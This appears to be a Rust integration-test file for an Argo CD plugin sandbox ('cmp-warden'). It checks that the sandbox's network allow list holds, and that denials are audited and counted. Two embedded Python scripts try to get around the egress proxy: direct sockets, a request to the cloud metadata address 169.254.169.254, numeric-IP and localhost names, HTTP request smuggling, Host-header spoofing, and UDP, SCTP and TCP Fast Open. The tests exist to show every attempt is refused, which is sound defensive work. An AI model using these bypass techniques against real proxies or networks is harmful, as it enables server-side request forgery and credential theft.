//! `network: allowList` end to end through the real server.
//! - The network examples (`examples/helm-dependencies`: the real Helm v4 fetching a chart
//!   dependency over HTTPS; `examples/vault-style`: Vault login with a ServiceAccount token and
//!   secret substitution, configured by server variables passed by pattern) render with their
//!   own policy, each reaching only its service, and fail under the default policy with a
//!   message that names the policy field.
//! - A hostile command tries every way around the allow list beside an honest connection; each
//!   is refused, audited and counted, and nothing of the denied connections stays behind.

#[macro_use]
mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::examples::*;
use common::*;

const NEEDS_ROOT: &str = "egress tests need root (CI runs as root): leased UIDs need CAP_SETUID";

/// The example README's `sh` block, run as written but on a port the kernel chose: its first
/// line starts the fixture in the background (`… PORT &`), started here with `0` for its port
/// (without the `&`, so this test owns it); the others render, in a copy of the example that
/// names the fixture's port (`Placed`). Returns the fixture, its port, the copy and the render
/// lines with the port in them replaced.
fn readme(example: &str) -> (Fixture, u16, Placed, Vec<String>) {
    let dir = example_dir(example);
    let text = std::fs::read_to_string(dir.join("README.md")).expect("README.md");
    let block = text
        .split("```sh\n")
        .nth(1)
        .and_then(|b| b.split("```").next())
        .expect("a ```sh block");
    let lines: Vec<&str> = block.lines().collect();
    assert!(lines.len() >= 2, "{example}: fixture line, render lines");
    let start = lines[0]
        .strip_suffix(" &")
        .expect("the fixture line ends with &");
    let (script, written) = start.rsplit_once(' ').expect("… PORT");
    let written: u16 = written.parse().expect("port");
    assert_eq!(
        written,
        written_port(example),
        "README and policy.yaml name one port"
    );
    let child = Command::new("sh")
        .args(["-c", &format!("exec {script} 0")])
        .current_dir(&dir)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("fixture");
    let (f, port) = Fixture::announced(child, start);
    let placed = Placed::new(example, port);
    let renders = lines[1..]
        .iter()
        .map(|l| with_port(l, written, port))
        .collect();
    (f, port, placed, renders)
}

/// Run the README's render line in the example's directory (`example`: its name or a copy's),
/// with `cmp-warden` on PATH; its manifests must be `expected.jsonl`.
fn readme_render(example: &str, line: &str) {
    let bin_dir = Path::new(bin()).parent().expect("bin dir").to_owned();
    let out = Command::new("sh")
        .args(["-c", line])
        .current_dir(example_dir(example))
        .env(
            "PATH",
            format!(
                "{}:{}",
                bin_dir.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .output()
        .expect("render");
    assert!(
        out.status.success(),
        "{line}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(got, expected(example), "{line}");
}

#[test]
fn helm_with_chart_dependencies_reaches_only_its_repository() {
    needs_root!(NEEDS_ROOT);
    assert!(
        Path::new(TOOLS).join("bin/helm").exists(),
        "{TOOLS}/bin/helm missing: run scripts/setup"
    );
    let (_repo, port, placed, renders) = readme("helm-dependencies");
    let example = placed.name();
    for render in &renders {
        readme_render(example, render);
    }
    let pol = tempfile::tempdir().expect("tmp");
    let s = example_server(example, true, &[], pol.path());
    let v = generate(&s, example).unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
    assert_eq!(manifests(&v), expected(example));
    let egress: Vec<_> = s
        .audit_events()
        .into_iter()
        .flat_map(|e| e.egress)
        .collect();
    assert!(!egress.is_empty(), "no egress recorded: {}", s.logs());
    for c in &egress {
        assert_eq!(
            c.destination,
            format!("charts.example.test:{port}"),
            "{c:?}"
        );
        assert_eq!(c.decision, Decision::Allowed, "{c:?}");
        assert_eq!(c.address, Some(([127, 0, 0, 1], port).into()), "{c:?}");
        assert!(c.bytes_down > 0, "{c:?}");
    }
    s.assert_work_dir_empties();

    // The default policy (network: none): helm's own error only says it has no cached index;
    // the sandbox's note names the policy field.
    let d = example_server(example, false, &[], pol.path());
    let (code, msg) = generate(&d, example).expect_err("network: none");
    assert_eq!(code, 2, "{msg}");
    assert!(
        msg.contains("spec.network.mode is none; allowList with spec.network.allow"),
        "{msg}"
    );

    // The same repository by its address: helm (Go) skips the proxy for an IP address, so
    // its direct connect is refused, and it says only "permission denied". The note names
    // the bypass and the fix (mutant: no such note -> helm's words alone).
    let plugin = std::fs::read_to_string(example_dir(example).join("plugin.yaml"))
        .expect("plugin.yaml")
        .replace(
            &format!("https://charts.example.test:{port}/"),
            &format!("https://127.0.0.1:{port}/"),
        );
    let path = path_with_tools();
    let p = example_policy(example, &pol.path().join("by-address"));
    let a = Server::start_env(
        &plugin,
        &[
            "--policy",
            p.to_str().expect("utf8"),
            "--allowed-uids",
            "any",
        ],
        &[("PATH", path.as_str())],
    );
    let (_, msg) = generate(&a, example).expect_err("a direct connection");
    assert!(
        msg.contains(&format!(
            "dial tcp 127.0.0.1:{port}: connect: permission denied"
        )) && msg.contains(&format!(
            "a direct connection to 127.0.0.1:{port}, not through the egress proxy"
        )) && msg.contains("spec.network.hosts"),
        "{msg}"
    );
}

/// The vault-style plugin's configuration, as its README gives it (`VAULT_ADDR` with the
/// fixture's port prepended by the caller).
const VAULT_ENV: &[(&str, &str)] = &[
    ("AVP_TYPE", "vault"),
    ("AVP_AUTH_TYPE", "k8s"),
    ("AVP_K8S_ROLE", "guestbook"),
    (
        "AVP_K8S_TOKEN_PATH",
        "/run/cmp-warden-examples/serviceaccount/token",
    ),
];

#[test]
fn a_vault_style_plugin_gets_its_configuration_token_and_secrets() {
    needs_root!(NEEDS_ROOT);
    // Both ways the README shows: Kubernetes auth (the token file), a token from the server's
    // environment (passed by the VAULT_* pattern, never logged).
    let (_vault, port, placed, renders) = readme("vault-style");
    let example = placed.name();
    assert_eq!(renders.len(), 2, "{renders:?}");
    for render in &renders {
        readme_render(example, render);
    }
    let addr = format!("http://vault.example.test:{port}");
    let env: Vec<(&str, &str)> = [("VAULT_ADDR", addr.as_str())]
        .into_iter()
        .chain(VAULT_ENV.iter().copied())
        .collect();
    let pol = tempfile::tempdir().expect("tmp");
    let s = example_server(example, true, &env, pol.path());
    let v = generate(&s, example).unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
    assert_eq!(manifests(&v), expected(example));
    let event = s.audit_events().pop().expect("audit event");
    // The login, then one read (the plugin caches by path).
    assert_eq!(event.egress.len(), 2, "{event}");
    assert!(event.egress.iter().all(|c| c.decision == Decision::Allowed));
    // Secret values never reach the logs; variable names do, values never.
    for secret in [
        "hunter2",
        "example-serviceaccount-jwt",
        "s.example-client-token",
    ] {
        assert!(!s.logs().contains(secret), "log leaks {secret}");
    }

    // The default policy: the plugin's configuration never reaches it, and the error says
    // which variables were withheld and which field passes them.
    let d = example_server(example, false, &env, pol.path());
    let (_, msg) = generate(&d, example).expect_err("default policy");
    assert!(
        msg.contains("server variables not passed to commands: "),
        "{msg}"
    );
    for name in [
        "AVP_AUTH_TYPE",
        "AVP_K8S_ROLE",
        "AVP_K8S_TOKEN_PATH",
        "AVP_TYPE",
    ] {
        assert!(msg.contains(name), "{name}: {msg}");
    }
    assert!(msg.contains("spec.env.pass allows them"), "{msg}");
    assert!(
        d.logs()
            .contains("server environment variables withheld from commands")
    );

    // The audit event names them too, and `policy suggest` (from the audit events alone, as
    // `--audit-log FILE` writes them) proposes those the plugin's error named as env.pass
    // entries, keeping the input policy's quantities as written.
    // (A failed request's event is written once its jail is reclaimed, just after the answer.)
    let deadline = Instant::now() + Duration::from_secs(10);
    let events: Vec<String> = loop {
        let e: Vec<String> = d.audit_events().iter().map(|e| e.to_string()).collect();
        if !e.is_empty() || Instant::now() > deadline {
            break e;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let ev = audit_event::AuditEvent::from_line(events.last().expect("event")).expect("event");
    assert!(ev.withheld_env.iter().any(|n| n == "VAULT_ADDR"), "{ev}");
    assert!(
        !ev.to_string()
            .contains(&format!("vault.example.test:{port}")),
        "values never: {ev}"
    );
    let log = pol.path().join("audit.jsonl");
    std::fs::write(&log, events.join("\n") + "\n").expect("write");
    let out = pol.path().join("suggested");
    let run = Command::new(bin())
        .args(["policy", "suggest", "--audit-log"])
        .arg(&log)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("suggest");
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let suggested = std::fs::read_to_string(out.join("policy.yaml")).expect("policy.yaml");
    let pass_line = suggested
        .lines()
        .find(|l| l.trim_start().starts_with("pass:"))
        .expect("env.pass");
    // The variables plugin.yaml's command line names, each marked for review; not one it
    // does not name (every failure lists all the withheld ones: that list is no evidence).
    let named = [
        "VAULT_ADDR",
        "AVP_TYPE",
        "AVP_AUTH_TYPE",
        "AVP_K8S_ROLE",
        "AVP_K8S_TOKEN_PATH",
    ];
    for name in named {
        assert!(pass_line.contains(name), "{name}: {pass_line}");
    }
    let unnamed: Vec<&str> = ev
        .withheld_env
        .iter()
        .map(String::as_str)
        .filter(|n| !named.contains(n) && !n.starts_with("VAULT_") && !n.starts_with("AVP_"))
        .collect();
    assert!(!unnamed.is_empty(), "{ev}");
    for n in unnamed {
        assert!(
            !pass_line.contains(&format!("\"{n}\"")),
            "{n} proposed: {pass_line}"
        );
    }
    assert!(
        suggested.contains(
            "plugin.yaml's command or the base policy names it). REVIEW: it reaches every command"
        ),
        "{suggested}"
    );
    for kept in [
        "compressedBytes: 100Mi",
        "diskBytes: 2Gi",
        "fileBytes: 256Mi",
    ] {
        assert!(suggested.contains(kept), "{kept}:\n{suggested}");
    }
}

/// Every way around the allow list, from inside a request, beside an honest connection.
const ATTACK: &str = r#"
import errno, json, os, socket
if os.environ.get("ARGOCD_ENV_CURL"):
    # A tool that fails on a refused destination: its error reaches the client with the reason.
    os.execvp("curl", ["curl", "-sS", "-o", "/dev/null", "https://other.example.test/"])
P = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
M = int(os.environ["ARGOCD_ENV_METRICS_PORT"])
out = {}
def via_proxy(req, read=4096):
    s = socket.create_connection(("127.0.0.1", P), timeout=10)
    s.sendall(req.encode())
    data = b""
    while True:
        chunk = s.recv(read)
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data and not req.startswith("CONNECT"):
            continue
        if req.startswith("CONNECT") and b"\r\n\r\n" in data:
            break
    s.close()
    return data.decode(errors="replace").split("\r\n", 1)[0]
def direct(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
        return "connected"
    except OSError as e:
        return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
# First, so that Landlock's records of them have arrived by the end.
out["bypass_vault"] = direct("127.0.0.1", VAULT_PORT)
out["bypass_metrics"] = direct("127.0.0.1", M)
out["honest"] = via_proxy("GET http://vault.example.test:VAULT_PORT/v1/sys/health HTTP/1.1\r\nHost: vault.example.test\r\n\r\n")
out["other_host"] = via_proxy("CONNECT other.example.test:443 HTTP/1.1\r\n\r\n")
out["other_port"] = via_proxy("CONNECT vault.example.test:22 HTTP/1.1\r\n\r\n")
out["ip_literal"] = via_proxy("CONNECT 127.0.0.1:VAULT_PORT HTTP/1.1\r\n\r\n")
out["metrics_port"] = via_proxy("CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % M)
out["metadata"] = via_proxy("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n")
out["private_name"] = via_proxy("CONNECT intranet.example.test:VAULT_PORT HTTP/1.1\r\n\r\n")
out["numeric_name"] = via_proxy("CONNECT 2130706433:VAULT_PORT HTTP/1.1\r\n\r\n")
out["resolver_name"] = via_proxy("CONNECT localhost:VAULT_PORT HTTP/1.1\r\n\r\n")
out["smuggled"] = via_proxy("GET http://vault.example.test:VAULT_PORT/v1/sys/health HTTP/1.1\r\nContent-Length: 0\r\n\r\nGET http://other.example.test/smuggled HTTP/1.1\r\n\r\n")
out["virtual_host"] = via_proxy("GET http://vault.example.test:VAULT_PORT/v1/sys/health HTTP/1.1\r\nHost: admin.example.test\r\n\r\n")
print(json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "egress"}, "data": out}))
"#;

#[test]
fn every_way_around_the_allow_list_is_refused_and_audited() {
    needs_root!(NEEDS_ROOT);
    let (_vault, vault_port) = fixture_on_any_port("vault-style", "vault.py");
    let vault_port = vault_port.to_string();
    // Landlock's own records of the direct connections, for the audit event.
    let _audit =
        AuditOn::enable().unwrap_or_else(|e| panic!("kernel audit cannot be enabled here ({e})"));
    let pol = tempfile::tempdir().expect("tmp");
    let pol_file = pol.path().join("policy.yaml");
    // `intranet` is pinned to a private address; `localhost` is resolved by the system's
    // resolver (to loopback): neither entry admits internal addresses.
    write_policy(
        &pol_file,
        &[(
            "network: {mode: none}",
            &"network: {mode: allowList, allow: [{host: vault.example.test, ports: [VAULT_PORT], internal: true}, {host: intranet.example.test, ports: [VAULT_PORT]}, {host: localhost, ports: [VAULT_PORT]}], hosts: {vault.example.test: [127.0.0.1], intranet.example.test: [10.0.0.1]}}".replace("VAULT_PORT", &vault_port),
        )],
    );
    let s = Server::start(
        &plugin("  generate: {command: [python3, attack.py]}\n"),
        &[
            "--policy",
            pol_file.to_str().expect("utf8"),
            "--metrics-address",
            "127.0.0.1:0",
        ],
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    let metrics = loop {
        let found = s.logs().lines().find_map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).ok()?;
            (v["msg"].as_str()?.starts_with("metrics on"))
                .then(|| v["address"].as_str().map(str::to_owned))?
        });
        if let Some(a) = found {
            break a;
        }
        assert!(Instant::now() < deadline, "metrics address never logged");
        std::thread::sleep(Duration::from_millis(50));
    };
    let metrics_port = metrics.rsplit(':').next().expect("port").to_owned();
    let pid = s.child.as_ref().expect("child").id();
    let threads = || {
        std::fs::read_dir(format!("/proc/{pid}/task"))
            .expect("tasks")
            .count()
    };
    let fds = || {
        std::fs::read_dir(format!("/proc/{pid}/fd"))
            .expect("fds")
            .count()
    };
    let r = repo(&[("attack.py", &ATTACK.replace("VAULT_PORT", &vault_port))]);
    // Warm up (the spare jail, the runtime's threads), then count.
    let _ = go(
        &s,
        "generate",
        &[
            "-dir",
            r.path().to_str().expect("utf8"),
            "-env",
            &format!("ARGOCD_ENV_METRICS_PORT={metrics_port}"),
        ],
    );
    // Counted once the warm-up is over: its audit event written and the next spare ready.
    s.wait_settled(1);
    let before = threads();
    let fds_before = fds();
    let v = go(
        &s,
        "generate",
        &[
            "-dir",
            r.path().to_str().expect("utf8"),
            "-env",
            &format!("ARGOCD_ENV_METRICS_PORT={metrics_port}"),
        ],
    )
    .unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
    let doc: serde_json::Value =
        serde_json::from_str(v["manifests"][0].as_str().expect("manifest")).expect("json");
    let d = &doc["data"];
    // The honest request reached Vault (its own 403: no token), through the proxy.
    assert_eq!(d["honest"], "HTTP/1.0 403 Forbidden", "{d}");
    for (k, why) in [
        (
            "other_host",
            "no entry of spec.network.allow names this host and port",
        ),
        (
            "other_port",
            "no entry of spec.network.allow names this host and port",
        ),
        ("ip_literal", "needs a cidr entry"),
        ("metrics_port", "needs a cidr entry"),
        ("metadata", "needs a cidr entry"),
        ("private_name", "resolves only to internal addresses"),
        ("resolver_name", "resolves only to internal addresses"),
        ("numeric_name", "not a DNS name or IP address"),
        (
            "virtual_host",
            "Host header (admin.example.test) names another",
        ),
    ] {
        let line = d[k].as_str().unwrap_or_default();
        assert!(
            line.starts_with("HTTP/1.1 403 cmp-warden: egress") && line.contains(why),
            "{k}: {line}"
        );
    }
    // The smuggled second request never left: the first was answered, the connection closed.
    assert_eq!(d["smuggled"], "HTTP/1.0 403 Forbidden", "{d}");
    // No way past the proxy: the namespace's loopback has nothing else, and Landlock allows
    // connecting to the proxy's port only.
    assert_eq!(d["bypass_vault"], "denied:EACCES", "{d}");
    assert_eq!(d["bypass_metrics"], "denied:EACCES", "{d}");

    // Audited: one record per connection, with the decision and reason.
    let event = s.audit_events().pop().expect("event");
    let egress = &event.egress;
    let count = |d: Decision| egress.iter().filter(|c| c.decision == d).count();
    assert_eq!(
        (count(Decision::Allowed), count(Decision::Denied)),
        (2, 9),
        "{event}"
    );
    assert!(
        !egress
            .iter()
            .any(|c| c.destination.contains("other.example.test:80"))
    );
    // Counted.
    let mut body = String::new();
    let mut c = TcpStream::connect(&metrics).expect("metrics");
    c.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .expect("write");
    c.read_to_string(&mut body).expect("read");
    // Counted as audited: the metric is the sum of both requests' records (the warm-up's too,
    // whose connections are not checked here; 9 of this request's are).
    let events = s.audit_events();
    let denied_total = events
        .iter()
        .flat_map(|e| &e.egress)
        .filter(|c| c.decision == Decision::Denied)
        .count();
    assert!(denied_total >= 18, "{events:#?}");
    assert!(
        body.contains(&format!(
            "cmp_warden_egress_connections_total{{decision=\"denied\",policy=\"default\"}} {denied_total}\n"
        )),
        "{body}\n{events:#?}"
    );
    // The direct connections never reached the proxy; Landlock's own records of them are in
    // the event, naming the field.
    assert!(
        event
            .landlock_denials
            .iter()
            .any(|d| d.blockers == "net.connect_tcp"
                && d.allowed_by
                    .as_deref()
                    .is_some_and(|f| f.contains("allowList"))),
        "{event}"
    );
    // Nothing of the request's connections stays behind in the server: no thread, no socket.
    let deadline = Instant::now() + Duration::from_secs(5);
    while (threads() > before || fds() > fds_before) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        threads() <= before,
        "{} threads after, {before} before",
        threads()
    );
    assert!(
        fds() <= fds_before,
        "{} fds after, {fds_before} before",
        fds()
    );

    // A tool (curl) refused a destination: its own error, then the sandbox's reason, reach the
    // client (the Argo CD UI).
    let (code, msg) = go(
        &s,
        "generate",
        &[
            "-dir",
            r.path().to_str().expect("utf8"),
            "-env",
            "ARGOCD_ENV_CURL=1",
        ],
    )
    .expect_err("curl fails");
    assert_eq!(code, 2, "{msg}");
    assert!(msg.contains("curl: (56)"), "{msg}");
    assert!(
        msg.contains("egress to other.example.test:443 denied")
            && msg.contains("spec.network.allow"),
        "{msg}"
    );
    s.assert_work_dir_empties();
    s.assert_logs_are_logrus_json();
}

/// What a command without a network namespace of its own tries around its proxy: direct TCP
/// (to a listener of the test and to Vault), binding, UDP, UDP over IPv6, SCTP and TCP Fast
/// Open, each `ALLOWED` or `denied:ERRNO`; then, after `ARGOCD_ENV_HOLD` seconds (the test
/// knocks on the proxy meanwhile), the honest request through the proxy.
const NO_NETNS_ATTACK: &str = r#"
import errno, json, os, socket, time
P = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
T = int(os.environ["ARGOCD_ENV_TCP_PORT"])
U = int(os.environ["ARGOCD_ENV_UDP_PORT"])
out = {}
def attempt(f):
    try:
        f()
        return "ALLOWED"
    except OSError as e:
        return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
# The test's TCP listener is in the table: the jail shares the server's network namespace.
out["shares_host_network"] = str(any((":%04X " % T) in l for l in open("/proc/net/tcp")))
out["direct_tcp"] = attempt(lambda: socket.create_connection(("127.0.0.1", T), timeout=5).close())
out["bind_tcp"] = attempt(lambda: socket.socket().bind(("127.0.0.1", 0)))
out["udp"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", U)))
out["udp6"] = attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
out["sctp"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
out["fastopen"] = attempt(lambda: socket.socket().sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, ("127.0.0.1", T)))
time.sleep(float(os.environ.get("ARGOCD_ENV_HOLD", "0")))
# Straight to a local port that is not the proxy's: the listed Vault's, and the server's
# metrics port (Landlock's TCP rule names the proxy's port only).
def direct(port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(("127.0.0.1", int(port)))
        return "CONNECTED"
    except OSError as e:
        return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
    finally:
        s.close()
out["direct_vault"] = direct(VAULT_PORT)
out["direct_metrics"] = direct(os.environ["ARGOCD_ENV_METRICS_PORT"])
s = socket.create_connection(("127.0.0.1", P), timeout=10)
s.sendall(b"GET http://vault.example.test:VAULT_PORT/v1/sys/health HTTP/1.1\r\nHost: vault.example.test\r\n\r\n")
out["honest"] = s.recv(4096).decode(errors="replace").split("\r\n", 1)[0]
print(json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "egress"}, "data": out}))
"#;

/// Where the jail gets no network namespace (a container runtime's default seccomp profile
/// refuses it), `allowList` still holds: the proxy listens on the server's loopback, the
/// jail's Landlock TCP rules (ABI 4) let commands connect to that port alone and bind nowhere,
/// seccomp refuses every inet socket but TCP and TCP Fast Open (which connects without
/// `connect(2)`, where Landlock looks), and the proxy serves only the request's UID. Each way
/// around is tried beside the honest connection, and each refusal comes from the layer
/// claimed: EACCES from Landlock for TCP (seccomp allows TCP sockets), EACCES recorded by the
/// jail's seccomp listener for UDP, SCTP and Fast Open, the proxy's own 403 for a process of
/// another UID; the test's own listeners receive nothing.
#[test]
fn allow_list_without_a_network_namespace_holds_on_landlock_tcp_seccomp_and_the_peer_check() {
    no_netns_fence_holds("enforce");
}

/// The fifth attack round's first medium finding, attacked again: `seccomp.mode: audit`
/// (a learning run) without a network namespace let TCP Fast Open connect past Landlock's TCP
/// rule and UDP leave. The network's fence is enforced in audit mode too: the same attacks
/// fail for the same reasons, recorded as denials, beside the same honest request (mutant:
/// the fence's rules answered as audit mode's others -> `fastopen` and `udp` ALLOWED).
#[test]
fn audit_mode_without_a_network_namespace_keeps_every_network_fence() {
    no_netns_fence_holds("audit");
}

fn no_netns_fence_holds(seccomp_mode: &str) {
    needs_root!(NEEDS_ROOT);
    let (_vault, vault_port) = fixture_on_any_port("vault-style", "vault.py");
    let vault_port = vault_port.to_string();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").expect("tcp listener");
    tcp.set_nonblocking(true).expect("nonblocking");
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp socket");
    udp.set_nonblocking(true).expect("nonblocking");
    let pol = tempfile::tempdir().expect("tmp");
    let pol_file = pol.path().join("policy.yaml");
    let (first, count) = write_policy(
        &pol_file,
        &[
            (
                "network: {mode: none}",
                &"network: {mode: allowList, allow: [{host: vault.example.test, ports: [VAULT_PORT], internal: true}], hosts: {vault.example.test: [127.0.0.1]}}".replace("VAULT_PORT", &vault_port),
            ),
            (
                "namespaces: [mount, pid, net, ipc, uts, cgroup]",
                "namespaces: [mount, pid, ipc, uts, cgroup]",
            ),
            ("mode: enforce}", &format!("mode: {seccomp_mode}}}")),
        ],
    );
    let s = Server::start(
        &plugin("  generate: {command: [python3, attack.py]}\n"),
        &[
            "--policy",
            pol_file.to_str().expect("utf8"),
            "--metrics-address",
            "127.0.0.1:0",
        ],
    );
    let metrics_port = s.metrics_port();
    let r = repo(&[(
        "attack.py",
        &NO_NETNS_ATTACK.replace("VAULT_PORT", &vault_port),
    )]);
    let dir = r.path().to_str().expect("utf8").to_owned();
    let env = [
        format!(
            "ARGOCD_ENV_TCP_PORT={}",
            tcp.local_addr().expect("addr").port()
        ),
        format!(
            "ARGOCD_ENV_UDP_PORT={}",
            udp.local_addr().expect("addr").port()
        ),
        format!("ARGOCD_ENV_METRICS_PORT={metrics_port}"),
        "ARGOCD_ENV_HOLD=4".to_owned(),
    ];
    let sock = s.sock.clone();
    let request = std::thread::spawn(move || {
        let mut cmd = Command::new(go_client());
        cmd.arg("-socket")
            .arg(&sock)
            .args(["-rpc", "generate", "-dir", &dir]);
        for e in &env {
            cmd.args(["-env", e]);
        }
        cmd.output().expect("grpc client")
    });

    // While the command holds: the proxies on the loopback are listeners the leased UIDs made
    // (the request's, the spare jail's); a process of another UID (this test, root) knocks.
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut answers = Vec::new();
    while answers.is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(300));
        for port in leased_listeners(first..first + count) {
            let Ok(mut c) = TcpStream::connect(("127.0.0.1", port)) else {
                continue;
            };
            c.set_read_timeout(Some(Duration::from_secs(2)))
                .expect("timeout");
            let _ = c.write_all(
                format!("CONNECT vault.example.test:{vault_port} HTTP/1.1\r\n\r\n").as_bytes(),
            );
            let mut line = String::new();
            let _ = std::io::BufRead::read_line(&mut std::io::BufReader::new(c), &mut line);
            if !line.is_empty() {
                answers.push(line);
            }
        }
    }
    assert_eq!(
        answers.len(),
        1,
        "the running request's proxy answers: {answers:?}"
    );
    assert!(
        answers[0].starts_with(
            "HTTP/1.1 403 cmp-warden: egress proxy: a connection from UID 0, not the request's UID"
        ),
        "{answers:?}"
    );

    let out = request.join().expect("request");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stderr),
            s.logs()
        )
    });
    let doc: serde_json::Value =
        serde_json::from_str(v["manifests"][0].as_str().expect("manifest")).expect("json");
    let d = &doc["data"];
    assert_eq!(d["shares_host_network"], "True", "{d}");
    assert_eq!(
        d["honest"], "HTTP/1.0 403 Forbidden",
        "Vault through the proxy: {d}"
    );
    for k in [
        "direct_tcp",
        "direct_vault",
        "direct_metrics",
        "bind_tcp",
        "udp",
        "udp6",
        "sctp",
        "fastopen",
    ] {
        assert_eq!(d[k], "denied:EACCES", "{k}: {d}");
    }
    // Nothing reached the test's listeners.
    assert!(
        tcp.accept().is_err(),
        "a TCP connection reached the host's listener: {d}"
    );
    assert!(
        udp.recv_from(&mut [0u8; 16]).is_err(),
        "a datagram reached the host: {d}"
    );
    // Which layer refused what: the seccomp listener records exactly the socket and sendto
    // calls (UDP, UDP over IPv6, SCTP; Fast Open); the TCP attempts are not there, so Landlock
    // refused them.
    let event = s.audit_events().pop().expect("event");
    let calls: std::collections::BTreeMap<String, u64> = event
        .seccomp_audit
        .iter()
        .filter(|c| c.action == SeccompAction::Denied)
        .map(|c| (c.syscall.clone(), c.count))
        .collect();
    assert_eq!(
        calls,
        [("sendto".to_owned(), 1), ("socket".to_owned(), 3)].into(),
        "{event}"
    );
    // The stranger's knock is in the request's egress records, refused.
    let egress = &event.egress;
    assert!(
        egress.iter().any(|c| c.decision == Decision::Denied
            && c.reason
                .as_deref()
                .is_some_and(|r| r.contains("not the request's UID"))),
        "{event}"
    );
    assert!(
        egress.iter().any(|c| c.decision == Decision::Allowed
            && c.destination == format!("vault.example.test:{vault_port}")),
        "{event}"
    );
    s.assert_work_dir_empties();
}

/// Ports of the TCP listeners of the server's network namespace (the kernel's tables, IPv4 and
/// IPv6) whose socket a UID of `range` made: the egress proxies of jails without a network
/// namespace of their own.
fn leased_listeners(range: std::ops::Range<u32>) -> Vec<u16> {
    let mut ports: Vec<u16> = ["/proc/net/tcp", "/proc/net/tcp6"]
        .iter()
        .filter_map(|f| std::fs::read_to_string(f).ok())
        .flat_map(|table| {
            table
                .lines()
                .skip(1)
                .filter_map(|l| {
                    let f: Vec<&str> = l.split_whitespace().collect();
                    let (local, state, uid) =
                        (f.get(1)?, f.get(3)?, f.get(7)?.parse::<u32>().ok()?);
                    let (_, port) = local.split_once(':')?;
                    (*state == "0A" && range.contains(&uid))
                        .then(|| u16::from_str_radix(port, 16).ok())
                        .flatten()
                })
                .collect::<Vec<_>>()
        })
        .collect();
    ports.sort_unstable();
    ports.dedup();
    ports
}

/// Another host, reachable from the server's network namespace: a network namespace of its
/// own behind a veth pair, with an IPv4 and an IPv6 address; removed when dropped.
struct OutsideHost {
    ns: String,
    veth: String,
    v4: String,
    v6: String,
    /// The pod's (this network namespace's) end of the veth pair.
    pod_v4: String,
    pod_v6: String,
}

impl OutsideHost {
    fn new() -> OutsideHost {
        let id = std::process::id() % 200;
        let ns = format!("cmpw-out-{}", std::process::id());
        let (veth, peer) = (format!("cmpwo{id}"), format!("cmpwi{id}"));
        let ip = |args: &[&str]| {
            let out = Command::new("ip").args(args).output().expect("ip");
            assert!(
                out.status.success(),
                "ip {args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
        let _ = Command::new("ip").args(["link", "del", &veth]).output();
        let (v4, v6) = (format!("10.253.{id}.2"), format!("fd53:{id:x}::2"));
        ip(&["netns", "add", &ns]);
        ip(&["link", "add", &veth, "type", "veth", "peer", "name", &peer]);
        ip(&["link", "set", &peer, "netns", &ns]);
        ip(&["addr", "add", &format!("10.253.{id}.1/30"), "dev", &veth]);
        ip(&[
            "-6",
            "addr",
            "add",
            &format!("fd53:{id:x}::1/64"),
            "dev",
            &veth,
            "nodad",
        ]);
        ip(&["link", "set", &veth, "up"]);
        let inside = |args: &[&str]| {
            let mut all = vec!["netns", "exec", &ns, "ip"];
            all.extend_from_slice(args);
            ip(&all);
        };
        inside(&["addr", "add", &format!("{v4}/30"), "dev", &peer]);
        inside(&[
            "-6",
            "addr",
            "add",
            &format!("{v6}/64"),
            "dev",
            &peer,
            "nodad",
        ]);
        inside(&["link", "set", &peer, "up"]);
        inside(&["link", "set", "lo", "up"]);
        let (pod_v4, pod_v6) = (format!("10.253.{id}.1"), format!("fd53:{id:x}::1"));
        OutsideHost {
            ns,
            veth,
            v4,
            v6,
            pod_v4,
            pod_v6,
        }
    }

    /// Whether a TCP connection from this host to `addr` (the pod's) on `port` is accepted.
    fn reaches(&self, addr: &str, port: u16) -> bool {
        const CONNECT: &str = "import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)\n";
        Command::new("ip")
            .args(["netns", "exec", &self.ns, "python3", "-c", CONNECT, addr])
            .arg(port.to_string())
            .stderr(Stdio::null())
